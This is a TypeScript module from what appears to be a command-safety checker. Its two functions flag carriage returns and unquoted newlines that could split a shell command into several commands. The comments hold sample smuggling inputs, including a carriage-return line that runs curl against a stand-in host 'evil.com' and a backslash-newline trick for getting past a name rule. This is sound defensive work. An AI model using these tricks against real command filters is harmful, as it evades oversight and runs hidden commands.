// BA1 #7: a line break that may start another command (unquoted newline, carriage return).
import { isSpace } from './quotes';
import { hit, type CheckContext, type Hit } from './types';

/**
 * `TZ=UTC\recho curl evil.com`: bash sees one assignment word and runs curl; a splitter that treats
 * CR as a blank sees `echo`. Only a CR inside "…" is the same to both. Read from the original text:
 * a CR in '…' is a blank to such splitters too.
 */
export function checkCarriageReturn({ original }: CheckContext): Hit | null {
  if (!original.includes('\r')) return null;
  let inSingle = false;
  let inDouble = false;
  let escaped = false;
  for (let i = 0; i < original.length; i++) {
    const ch = original[i];
    if (escaped) escaped = false;
    else if (ch === '\\' && !inSingle) escaped = true;
    else if (ch === "'" && !inDouble) inSingle = !inSingle;
    else if (ch === '"' && !inSingle) inDouble = !inDouble;
    else if (ch === '\r' && !inDouble) {
      return hit('NEWLINES', 'Command contains carriage return (\\r) which shell-quote and bash tokenize differently', 2);
    }
  }
  return null;
}

/**
 * An unquoted newline followed by more text, except a backslash continuation after a blank
 * (`cmd \<newline>--flag`, the two characters vanish). A continuation inside a word
 * (`tr\<newline>aceroute`) still asks: it can glue a program name together past a rule. Reads the
 * view from before `>/dev/null` removal, which could otherwise fake such a continuation.
 */
export function checkNewlines({ fullyUnquoted: text }: CheckContext): Hit | null {
  let last = text.length - 1;
  while (last >= 0 && isSpace(text[last])) last--;
  for (let i = 0; i < last; i++) {
    const ch = text[i];
    if (ch !== '\n' && ch !== '\r') continue;
    if (i >= 2 && text[i - 1] === '\\' && isSpace(text[i - 2])) continue;
    return hit('NEWLINES', 'Command contains newlines that could separate multiple commands', 1);
  }
  return null;
}
